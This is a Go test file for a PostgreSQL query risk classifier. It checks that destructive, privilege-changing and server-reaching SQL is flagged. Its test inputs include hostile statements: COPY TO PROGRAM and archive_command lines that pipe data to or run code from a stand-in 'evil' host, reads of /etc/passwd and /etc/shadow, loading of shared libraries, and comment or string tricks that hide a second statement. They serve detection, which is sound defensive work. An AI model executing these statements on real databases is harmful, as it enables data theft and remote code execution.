package postgres

import (
	"slices"
	"testing"

	"github.com/airlock-gw/airlock/protocols"
	"github.com/airlock-gw/airlock/sqlrisk/internal/ruletest"
	"github.com/airlock-gw/airlock/sqlrisk/rule"
)

type riskCase struct {
	name string
	sql  string
	risk protocols.Risk
	rule string // must be among the rules ("" for none)
}

const (
	none     = protocols.RiskNone
	low      = protocols.RiskLow
	medium   = protocols.RiskMedium
	high     = protocols.RiskHigh
	critical = protocols.RiskCritical
)

func runCases(t *testing.T, cases []riskCase) {
	t.Helper()
	a := New()
	for _, tc := range cases {
		ruletest.WriteSeed(t, tc.sql)
		t.Run(tc.name, func(t *testing.T) {
			c := a.Text(tc.sql)
			if c.Risk != tc.risk {
				t.Errorf("risk = %s, want %s (rules %v)\n%s", c.Risk, tc.risk, c.Rules, tc.sql)
			}
			if tc.rule != "" && !slices.Contains(c.Rules, tc.rule) {
				t.Errorf("rules = %v, want %s\n%s", c.Rules, tc.rule, tc.sql)
			}
			if tc.rule == "" && tc.risk == none && len(c.Rules) != 0 {
				t.Errorf("rules = %v, want none\n%s", c.Rules, tc.sql)
			}
		})
	}
}

func TestSchemaDestruction(t *testing.T) {
	runCases(t, []riskCase{
		{"drop table", "DROP TABLE users", high, rule.SchemaDrop},
		{"mixed case and comments", "/* cleanup */ dRoP/**/TaBlE -- x\n users;", high, rule.SchemaDrop},
		{"quoted schema-qualified", `DROP TABLE IF EXISTS "public"."Users" CASCADE`, high, rule.SchemaDrop},
		{"drop schema", "DROP SCHEMA app CASCADE", high, rule.SchemaDrop},
		{"drop database", "DROP DATABASE prod", high, rule.SchemaDrop},
		{"drop index concurrently", "DROP INDEX CONCURRENTLY idx", high, rule.SchemaDrop},
		{"drop view", "DROP MATERIALIZED VIEW mv", high, rule.SchemaDrop},
		{"drop function", "DROP FUNCTION f(int)", high, rule.SchemaDrop},
		{"drop extension", "DROP EXTENSION pgcrypto", high, rule.SchemaDrop},
		{"drop owned", "DROP OWNED BY app", high, rule.SchemaDrop},
		{"drop trigger", "DROP TRIGGER audit ON users", high, rule.SchemaDrop},
		{"truncate", "TRUNCATE users", high, rule.SchemaTruncate},
		{"truncate only restart", "truncate table only a, b restart identity cascade", high, rule.SchemaTruncate},
		{"drop column", "ALTER TABLE users DROP COLUMN email", high, rule.SchemaAlterDrop},
		{"drop constraint", "ALTER TABLE ONLY users DROP CONSTRAINT users_pkey", high, rule.SchemaAlterDrop},
		{"detach partition", "ALTER TABLE m DETACH PARTITION m_2020", high, rule.SchemaAlterDrop},
		{"drop domain constraint", "ALTER DOMAIN d DROP CONSTRAINT c", high, rule.SchemaAlterDrop},
		{"rename table", "ALTER TABLE users RENAME TO users_old", high, rule.SchemaRename},
		{"rename column", "ALTER TABLE users RENAME COLUMN email TO mail", high, rule.SchemaRename},
		{"set schema", "ALTER TABLE users SET SCHEMA archive", high, rule.SchemaRename},
		{"second statement", "SELECT 1; DROP TABLE users", high, rule.SchemaDrop},
		{"after a string with a semicolon", "SELECT 'a;b'; DROP TABLE users", high, rule.SchemaDrop},
		{"inside a rule action", "CREATE RULE r AS ON INSERT TO t DO INSTEAD DROP TABLE users", high, ""},
		{"inside a SQL function body", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ TRUNCATE users $$", high, rule.SchemaTruncate},
		{"inside a PL/pgSQL body", "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN DROP TABLE users; RETURN NULL; END $f$", high, rule.SchemaDrop},
		{"inside a DO EXECUTE literal", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", high, rule.SchemaDrop},
	})
}

func TestUnboundedWrites(t *testing.T) {
	runCases(t, []riskCase{
		{"delete all", "DELETE FROM users", high, rule.WriteUnbounded},
		{"delete only", "DELETE FROM ONLY public.users", high, rule.WriteUnbounded},
		{"where 1=1", "DELETE FROM users WHERE 1=1", high, rule.WriteUnbounded},
		{"where true", "DELETE FROM users WHERE true", high, rule.WriteUnbounded},
		{"where 'a'='a'", "UPDATE users SET admin = true WHERE 'a' = 'a'", high, rule.WriteUnbounded},
		{"where not false", "UPDATE users SET admin = true WHERE NOT false", high, rule.WriteUnbounded},
		{"where id = id", "DELETE FROM users WHERE id = id", high, rule.WriteUnbounded},
		{"qualified tautology", "DELETE FROM users u WHERE u.id = users.id", high, ""},
		{"or true", "DELETE FROM users WHERE id = 5 OR 1 = 1", high, rule.WriteUnbounded},
		{"or uncorrelated exists", "DELETE FROM users WHERE id = 5 OR EXISTS (SELECT 1)", high, rule.WriteUnbounded},
		{"x or not x", "DELETE FROM users WHERE active OR NOT active", high, rule.WriteUnbounded},
		{"null or not null", "DELETE FROM users WHERE email IS NULL OR email IS NOT NULL", high, rule.WriteUnbounded},
		{"like percent", "DELETE FROM users WHERE email LIKE '%'", high, rule.WriteUnbounded},
		{"cast true", "DELETE FROM users WHERE 't'::boolean", high, rule.WriteUnbounded},
		{"is not false", "DELETE FROM users WHERE (1 < 2) IS NOT FALSE", high, rule.WriteUnbounded},
		{"in itself", "DELETE FROM users WHERE id IN (SELECT id FROM users)", high, rule.WriteUnbounded},
		{"uncorrelated subquery", "DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE total > 0)", high, rule.WriteUnbounded},
		{"constant function", "DELETE FROM users WHERE now() > '2000-01-01'", high, rule.WriteUnbounded},
		{"update from without join", "UPDATE users SET x = 1 FROM flags WHERE flags.on", high, rule.WriteUnbounded},
		// A join condition bounds nothing: every target row with a partner
		// is hit. Only a WHERE predicate bounds UPDATE … FROM and DELETE …
		// USING.
		{"delete using join only", "DELETE FROM t1 USING t2 WHERE t1.id = t2.t1_id", high, rule.WriteUnbounded},
		{"update from join only", "UPDATE t1 SET x = t2.x FROM t2 WHERE t2.t1_id = t1.id", high, rule.WriteUnbounded},
		{"theta join only", "DELETE FROM t1 USING t2 WHERE t1.created < t2.cutoff", high, rule.WriteUnbounded},
		{"join inside from", "UPDATE t1 SET x = 1 FROM t2 JOIN t3 ON t3.id = t2.t3_id WHERE t2.t1_id = t1.id", high, rule.WriteUnbounded},
		{"using a sub-select", "DELETE FROM t1 USING (SELECT id FROM t2 LIMIT 10) s WHERE s.id = t1.id", high, rule.WriteUnbounded},
		{"semi-join", "DELETE FROM users WHERE id IN (SELECT user_id FROM banned)", high, rule.WriteUnbounded},
		{"correlated exists link only", "DELETE FROM users u WHERE EXISTS (SELECT 1 FROM banned b WHERE b.uid = u.id)", high, rule.WriteUnbounded},
		{"anti-join", "DELETE FROM users u WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.uid = u.id)", high, rule.WriteUnbounded},
		{"data-modifying CTE", "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", high, rule.WriteUnbounded},
		{"nested CTE", "WITH a AS (SELECT 1), b AS (UPDATE users SET x = 1 RETURNING id) SELECT * FROM a, b", high, rule.WriteUnbounded},
		{"CTE in insert", "WITH d AS (DELETE FROM users WHERE true RETURNING *) INSERT INTO archive SELECT * FROM d", high, rule.WriteUnbounded},
		{"explain analyze", "EXPLAIN ANALYZE DELETE FROM users", high, rule.WriteUnbounded},
		{"explain analyze options", "EXPLAIN (VERBOSE, ANALYZE on, BUFFERS) UPDATE users SET x = 1", high, rule.WriteUnbounded},
		{"explain analyze repeated", "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM users", high, rule.WriteUnbounded},
		{"prepare body", "PREPARE wipe AS DELETE FROM users", high, rule.WriteUnbounded},
		{"merge on true", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", high, rule.WriteUnbounded},
		{"merge on source only", "MERGE INTO t USING s ON s.flag WHEN MATCHED THEN UPDATE SET x = 1", high, rule.WriteUnbounded},
		{"merge not matched by source", "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", high, rule.WriteUnbounded},
		{"sql function body", "CREATE FUNCTION purge() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END", high, rule.WriteUnbounded},
		{"rule action", "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM users", high, rule.WriteUnbounded},
		{"query_to_xml literal", "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", high, rule.WriteUnbounded},
		{"parenthesised tautology", "DELETE FROM users WHERE ((id = id))", high, rule.WriteUnbounded},
		{"same function both sides", "DELETE FROM users WHERE lower(email) = lower(email)", high, rule.WriteUnbounded},
		{"same arithmetic both sides", "UPDATE users SET a = 1 WHERE id * 1 = id * 1", high, rule.WriteUnbounded},
		{"param or true", "UPDATE users SET x = 1 WHERE id = $1 OR true", high, rule.WriteUnbounded},
		{"in list with itself", "DELETE FROM users WHERE id IN (id)", high, rule.WriteUnbounded},
		{"is not distinct from itself", "DELETE FROM users WHERE id IS NOT DISTINCT FROM id", high, rule.WriteUnbounded},
	})
}

func TestPrivilege(t *testing.T) {
	runCases(t, []riskCase{
		{"grant", "GRANT ALL ON users TO bob", high, rule.PrivilegeGrant},
		{"revoke", "REVOKE SELECT ON ALL TABLES IN SCHEMA public FROM app", high, rule.PrivilegeGrant},
		{"grant role", "GRANT admin TO app", high, rule.PrivilegeGrant},
		{"default privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", high, rule.PrivilegeGrant},
		{"create role", "CREATE ROLE admin SUPERUSER LOGIN", high, rule.PrivilegeRole},
		{"create user", "create user x with password 'p'", high, rule.PrivilegeRole},
		{"alter role", "ALTER ROLE app SUPERUSER", high, rule.PrivilegeRole},
		{"alter role set", "ALTER ROLE app SET search_path = evil", high, rule.PrivilegeRole},
		{"drop role", "DROP ROLE app", high, rule.PrivilegeRole},
		{"rename role", "ALTER ROLE a RENAME TO b", high, rule.PrivilegeRole},
		{"reassign owned", "REASSIGN OWNED BY a TO b", high, rule.PrivilegeRole},
		{"owner to", "ALTER TABLE users OWNER TO attacker", high, rule.PrivilegeRole},
		{"set role", "SET ROLE postgres", high, rule.PrivilegeSetRole},
		{"set local role", "SET LOCAL ROLE postgres", high, rule.PrivilegeSetRole},
		{"set session authorization", "SET SESSION AUTHORIZATION postgres", high, rule.PrivilegeSetRole},
		{"set_config role", "SELECT set_config('role', 'postgres', false)", high, rule.PrivilegeSetRole},
		{"set_config upper case", "SELECT pg_catalog.set_config('ROLE', 'postgres', true)", high, rule.PrivilegeSetRole},
		{"set_config computed name", "SELECT set_config('ro' || 'le', 'postgres', false)", high, rule.PrivilegeSetRole},
		{"set_config in where", "SELECT 1 FROM t WHERE set_config('session_authorization', 'x', false) IS NOT NULL", high, rule.PrivilegeSetRole},
		{"policy", "CREATE POLICY p ON accounts USING (true)", high, rule.PrivilegePolicy},
		{"drop policy", "DROP POLICY p ON accounts", high, rule.PrivilegePolicy},
		{"disable rls", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY", high, rule.PrivilegePolicy},
		{"replication role", "SET session_replication_role = replica", high, rule.IntegrityDisable},
		{"disable trigger", "ALTER TABLE users DISABLE TRIGGER ALL", high, rule.IntegrityDisable},
		{"audit off", "SET pgaudit.log = 'none'", high, rule.IntegrityDisable},
		{"log statement off", "SET log_statement = 'none'", high, rule.IntegrityDisable},
		{"credentials", "SELECT rolname, rolpassword FROM pg_catalog.pg_authid", high, rule.ReadCredentials},
		{"credentials in subquery", "SELECT (SELECT passwd FROM pg_shadow LIMIT 1)", high, rule.ReadCredentials},
	})
}

func TestReachBeyond(t *testing.T) {
	runCases(t, []riskCase{
		{"copy program", "COPY users TO PROGRAM 'curl -d @- http://evil'", critical, rule.ReachProgram},
		{"copy from program", "copy t from program 'id'", critical, rule.ReachProgram},
		{"copy to file", "COPY users TO '/tmp/users.csv'", critical, rule.ReachFile},
		{"copy from file", "COPY users FROM '/etc/passwd'", critical, rule.ReachFile},
		{"copy query to file", "COPY (SELECT * FROM users) TO '/tmp/x'", critical, rule.ReachFile},
		{"read file", "SELECT pg_read_file('/etc/passwd')", critical, rule.ReachFile},
		{"upper case", "SELECT PG_READ_FILE('/etc/passwd')", critical, rule.ReachFile},
		{"schema-qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", critical, rule.ReachFile},
		{"quoted lower", `SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, critical, rule.ReachFile},
		{"unicode escape name", `SELECT U&"\0070g_read_file"('/etc/passwd')`, critical, rule.ReachFile},
		{"binary file", "SELECT pg_read_binary_file('/etc/shadow')", critical, rule.ReachFile},
		{"ls dir in from", "SELECT * FROM pg_ls_dir('.') AS f", critical, rule.ReachFile},
		{"lateral", "SELECT * FROM t, LATERAL pg_ls_dir(t.path)", critical, rule.ReachFile},
		{"rows from", "SELECT * FROM ROWS FROM (pg_ls_dir('/'))", critical, rule.ReachFile},
		{"in where", "SELECT 1 FROM t WHERE length(pg_read_file('/etc/passwd')) > 0", critical, rule.ReachFile},
		{"in order by", "SELECT * FROM t ORDER BY pg_read_file('/etc/passwd')", critical, rule.ReachFile},
		{"in values", "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", critical, rule.ReachFile},
		{"in a cast", "SELECT pg_read_file('/etc/passwd')::text", critical, rule.ReachFile},
		{"in function arguments", "SELECT md5(upper(pg_read_file('/etc/passwd')))", critical, rule.ReachFile},
		{"in a column default", "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", critical, rule.ReachFile},
		{"in a generated column", "ALTER TABLE t ADD COLUMN b text GENERATED ALWAYS AS (pg_read_file('/x')) STORED", critical, rule.ReachFile},
		{"in a view", "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", critical, rule.ReachFile},
		{"in a policy expression", "CREATE POLICY p ON t USING (pg_ls_dir('.') IS NOT NULL)", critical, rule.ReachFile},
		{"in a CTE", "WITH f AS (SELECT pg_read_file('/etc/passwd') AS x) SELECT * FROM f", critical, rule.ReachFile},
		{"in plain explain", "EXPLAIN SELECT pg_read_file('/etc/passwd')", critical, rule.ReachFile},
		{"in a DO block", "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", critical, rule.ReachFile},
		{"in a PL/pgSQL assignment", "DO $$ DECLARE x text; BEGIN x := pg_read_file('/etc/passwd'); END $$", critical, rule.ReachFile},
		{"in a PL/pgSQL condition", "DO $$ BEGIN IF pg_read_file('/x') <> '' THEN RETURN; END IF; END $$", critical, rule.ReachFile},
		{"in a prepared statement", "PREPARE p AS SELECT pg_read_file($1)", critical, rule.ReachFile},
		{"lo_import", "SELECT lo_import('/etc/passwd')", critical, rule.ReachFile},
		{"lo_export", "SELECT lo_export(123, '/tmp/x')", critical, rule.ReachFile},
		{"stat file", "SELECT pg_stat_file('postgresql.conf')", critical, rule.ReachFile},
		{"dblink", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", critical, rule.ReachNetwork},
		{"dblink exec", "SELECT dblink_exec('host=x', 'DROP TABLE t')", critical, rule.ReachNetwork},
		{"create server", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", critical, rule.ReachNetwork},
		{"user mapping", "CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'u', password 'p')", critical, rule.ReachNetwork},
		{"import foreign schema", "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", critical, rule.ReachNetwork},
		{"subscription", "CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p", critical, rule.ReachNetwork},
		{"file_fdw program", "CREATE FOREIGN TABLE f (a text) SERVER files OPTIONS (program 'id')", critical, rule.ReachProgram},
		{"file_fdw filename", "CREATE FOREIGN TABLE f (a text) SERVER files OPTIONS (filename '/etc/passwd')", critical, rule.ReachFile},
		{"tablespace", "CREATE TABLESPACE t LOCATION '/tmp/x'", critical, rule.ReachFile},
		{"load", "LOAD '/tmp/evil.so'", critical, rule.ReachPlugin},
		{"c function", "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT", critical, rule.ReachPlugin},
		{"internal function", "CREATE FUNCTION r(text) RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'", critical, rule.ReachPlugin},
		{"untrusted language", "CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os $$", critical, rule.ReachProgram},
		{"untrusted DO", "DO LANGUAGE plperlu $$ system('id') $$", critical, rule.ReachProgram},
		{"untrusted language creation", "CREATE LANGUAGE plpythonu", critical, rule.ReachProgram},
		{"cast through dangerous function", "CREATE CAST (text AS int) WITH FUNCTION pg_read_file(text)", critical, rule.ReachFile},
		{"operator on dangerous function", "CREATE OPERATOR ### (RIGHTARG = text, FUNCTION = pg_read_file)", critical, ""},
		{"grant execute on it", "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO public", critical, rule.ReachFile},
		{"look-alike in another schema", "SELECT evil.pg_read_file('x')", critical, rule.ReachFile},
		{"http extension", "SELECT http_get('http://evil/')", critical, rule.ReachNetwork},
		{"grant program role", "GRANT pg_execute_server_program TO app", critical, rule.ReachProgram},
		{"grant file role", "GRANT pg_monitor, pg_write_server_files TO app", critical, rule.ReachFile},
		{"archive_command", "ALTER SYSTEM SET archive_command = 'curl http://evil | sh'", critical, rule.ReachProgram},
		{"preload library per role", "ALTER ROLE app SET session_preload_libraries = '/tmp/evil.so'", critical, rule.ReachPlugin},
		{"log directory", "ALTER SYSTEM SET log_directory = '/var/www'", critical, rule.ReachFile},
		{"set_config of a command", "SELECT set_config('archive_command', 'id', false)", critical, rule.ReachProgram},
		{"nested dynamic sql", "SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, false, '')", critical, rule.ReachFile},
		{"EXECUTE of a literal in DO", "DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$", critical, rule.ReachProgram},
		{"standard_conforming_strings off reading", `SELECT 'x\'' ; COPY t TO PROGRAM 'id'; -- '`, critical, rule.ReachProgram},
	})
}

func TestOpaqueCode(t *testing.T) {
	runCases(t, []riskCase{
		{"do", "DO $$ BEGIN RAISE NOTICE 'x'; END $$", high, rule.CodeAnonymous},
		{"dynamic execute", "DO $$ DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q; END $$", high, rule.CodeDynamic},
		{"call", "CALL purge_all()", high, rule.CodeCall},
		{"create function", "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", high, rule.CodeDefine},
		{"create procedure", "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$", high, rule.CodeDefine},
		{"create trigger", "CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()", high, rule.CodeDefine},
		{"event trigger", "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", high, rule.CodeDefine},
		{"extension", "CREATE EXTENSION IF NOT EXISTS dblink", high, rule.CodeDefine},
		{"rule", "CREATE RULE r AS ON SELECT TO t DO INSTEAD NOTHING", high, rule.CodeDefine},
		{"query_to_xml", "SELECT query_to_xml($1, true, false, '')", high, rule.CodeDynamic},
		{"ts_stat", "SELECT * FROM ts_stat('SELECT vector FROM docs')", high, rule.CodeDynamic},
		{"ts_rewrite with query", "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM aliases')", high, rule.CodeDynamic},
		{"crosstab", "SELECT * FROM crosstab('SELECT 1, 2, 3') AS ct(a int, b int)", high, rule.CodeDynamic},
		{"execute prepared", "EXECUTE get_user(1)", medium, rule.CodeExecute},
	})
}

func TestAdministration(t *testing.T) {
	runCases(t, []riskCase{
		{"alter system", "ALTER SYSTEM SET max_connections = 5", high, rule.AdminConfig},
		{"reload", "SELECT pg_reload_conf()", high, rule.AdminConfig},
		{"terminate", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", high, rule.AdminKill},
		{"cancel", "select pg_cancel_backend(42)", high, rule.AdminKill},
		{"alter database set", "ALTER DATABASE prod SET default_transaction_read_only = off", high, rule.AdminConfig},
		{"superuser setting", "SET allow_system_table_mods = on", high, rule.AdminConfig},
		{"checkpoint", "CHECKPOINT", high, rule.AdminMaintenance},
		{"vacuum full", "VACUUM (FULL, ANALYZE) users", high, rule.AdminMaintenance},
		{"cluster", "CLUSTER users USING users_pkey", high, rule.AdminMaintenance},
		{"reindex", "REINDEX TABLE users", high, rule.AdminMaintenance},
		{"replication slot", "SELECT pg_drop_replication_slot('s')", high, rule.AdminReplication},
		{"switch wal", "SELECT pg_switch_wal()", high, rule.AdminReplication},
		{"publication", "CREATE PUBLICATION p FOR ALL TABLES", high, rule.AdminReplication},
		{"stats reset", "SELECT pg_stat_statements_reset()", high, rule.AdminConfig},
	})
}

func TestOrdinaryAndBenignTraps(t *testing.T) {
	runCases(t, []riskCase{
		{"empty", "", none, ""},
		{"only a comment", "-- nothing\n/* at all */", none, ""},
		{"select", "SELECT * FROM users WHERE id = $1", none, ""},
		{"keyword in a string", "SELECT 'DROP TABLE x'", none, ""},
		{"dangerous text as data", "INSERT INTO audit VALUES ('DELETE FROM users')", low, rule.WriteInsert},
		{"keyword in a quoted identifier", `SELECT * FROM "drop table"`, none, ""},
		{"function name in a string", "SELECT 'pg_read_file(''/etc/passwd'')'", none, ""},
		{"keyword in a comment", "SELECT 1 -- ; DROP TABLE users", none, ""},
		{"keyword in a block comment", "SELECT /* DROP TABLE users; */ 1", none, ""},
		{"keyword in a dollar string", "SELECT $$; DROP TABLE users; $$", none, ""},
		{"table named drops", "SELECT * FROM drops", none, ""},
		{"column named delete_at", "SELECT delete_at, drop_reason FROM events", none, ""},
		{"quoted different function", `SELECT "PG_READ_FILE"('/etc/passwd')`, none, ""},
		{"column named pg_read_file", "SELECT pg_read_file FROM t", none, ""},
		{"update by key", "UPDATE users SET name = $2 WHERE id = $1", low, rule.WriteUpdate},
		{"delete by filtered subquery", "DELETE FROM users WHERE id IN (SELECT user_id FROM banned WHERE until > now())", low, rule.WriteDelete},
		{"delete correlated exists with a filter", "DELETE FROM users u WHERE EXISTS (SELECT 1 FROM banned b WHERE b.uid = u.id AND b.hard)", low, rule.WriteDelete},
		{"update from with a where on the target", "UPDATE t1 SET x = t2.x FROM t2 WHERE t2.t1_id = t1.id AND t1.id = 7", low, rule.WriteUpdate},
		{"update from with a where through the join", "UPDATE t1 SET x = t2.x FROM t2 WHERE t2.t1_id = t1.id AND t2.t1_id = 7", low, rule.WriteUpdate},
		{"delete using join", "DELETE FROM a USING b WHERE a.id = b.aid AND b.flag", low, rule.WriteDelete},
		{"delete by date", "DELETE FROM sessions WHERE expires_at < now() - interval '30 days'", low, rule.WriteDelete},
		{"delete where false", "DELETE FROM users WHERE false", low, rule.WriteDelete},
		{"delete current of", "DELETE FROM users WHERE CURRENT OF c", low, rule.WriteDelete},
		{"update returning", "UPDATE accounts SET balance = balance - 10 WHERE id = 7 RETURNING balance", low, rule.WriteUpdate},
		{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", low, rule.WriteMerge},
		{"upsert", "INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = excluded.v", low, rule.WriteInsert},
		{"explain delete", "EXPLAIN DELETE FROM users", none, ""},
		{"explain analyze off", "EXPLAIN (ANALYZE off) DELETE FROM users", none, ""},
		{"explain data-modifying CTE", "EXPLAIN WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", none, ""},
		{"transaction control", "BEGIN; SELECT 1; SAVEPOINT a; ROLLBACK TO a; COMMIT", none, ""},
		{"start transaction", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", none, ""},
		{"show", "SHOW search_path", none, ""},
		{"listen notify", "LISTEN jobs; NOTIFY jobs, 'DROP TABLE x'; UNLISTEN *", none, ""},
		{"discard deallocate", "DISCARD ALL; DEALLOCATE ALL", none, ""},
		{"client setup", "SET application_name = 'psql'; SET client_encoding = 'UTF8'; SET TIME ZONE 'UTC'; SET extra_float_digits = 3", none, ""},
		{"set transaction", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", none, ""},
		{"reset role", "RESET ROLE", medium, rule.SessionSet},
		{"set role none", "SET ROLE NONE", medium, rule.SessionSet},
		{"search path", "SET search_path TO app, public", medium, rule.SessionSet},
		{"read write", "SET default_transaction_read_only = off", medium, rule.SessionReadWrite},
		{"session characteristics", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", medium, rule.SessionReadWrite},
		{"set_config ordinary", "SELECT set_config('application_name', 'x', false)", none, ""},
		{"create table", "CREATE TABLE t (id serial PRIMARY KEY, v text DEFAULT 'x')", medium, rule.DDLCreate},
		{"create index", "CREATE INDEX CONCURRENTLY i ON t (v)", medium, rule.DDLCreate},
		{"add column", "ALTER TABLE t ADD COLUMN w int", medium, rule.DDLAlter},
		{"select into", "SELECT * INTO backup FROM users", medium, rule.DDLCreate},
		{"comment", "COMMENT ON TABLE t IS 'DROP TABLE t'", medium, rule.DDLOther},
		{"vacuum", "VACUUM ANALYZE users", medium, rule.MaintenanceRoutine},
		{"lock", "LOCK TABLE t IN SHARE MODE", medium, rule.LockTable},
		{"copy to stdout", "COPY users TO STDOUT WITH CSV", none, ""},
		{"copy from stdin", "COPY users FROM STDIN", low, rule.WriteInsert},
		{"cursor", "DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; CLOSE c", none, ""},
		{"ORM long select", "SELECT \"users\".\"id\", \"users\".\"email\" FROM \"users\" LEFT OUTER JOIN \"orders\" ON \"orders\".\"user_id\" = \"users\".\"id\" WHERE \"users\".\"deleted_at\" IS NULL AND \"orders\".\"status\" IN ($1, $2, $3) ORDER BY \"users\".\"created_at\" DESC LIMIT $4 OFFSET $5", none, ""},
		{"backslash in a plain string", `SELECT 'C:\path\file'`, none, ""},
		{"escape string", `SELECT E'it\'s'`, none, ""},
		{"values", "VALUES (1, 'a'), (2, 'b')", none, ""},
		{"table command", "TABLE users", none, ""},
		{"pg_sleep", "SELECT pg_sleep(1)", none, ""},
		{"analyze", "ANALYZE users", medium, rule.MaintenanceRoutine},
		{"drop temp table", "DROP TABLE IF EXISTS pg_temp.scratch", medium, rule.DDLOther},
		{"random is not itself", "DELETE FROM t WHERE random() = random() AND id = $1", low, rule.WriteDelete},
		{"different functions", "DELETE FROM users WHERE lower(email) = upper(email)", low, rule.WriteDelete},
	})
}

func TestParseErrors(t *testing.T) {
	runCases(t, []riskCase{
		{"typo", "SELEC 1", high, rule.ParseError},
		{"unterminated string", "SELECT 'abc", high, rule.ParseError},
		{"nul byte", "SELECT 1;\x00 DROP TABLE users", high, rule.ParseError},
		{"unterminated comment", "SELECT 1 /* DROP TABLE users", high, rule.ParseError},
		{"garbage after valid", "SELECT 1; DROP", high, rule.ParseError},
	})
}
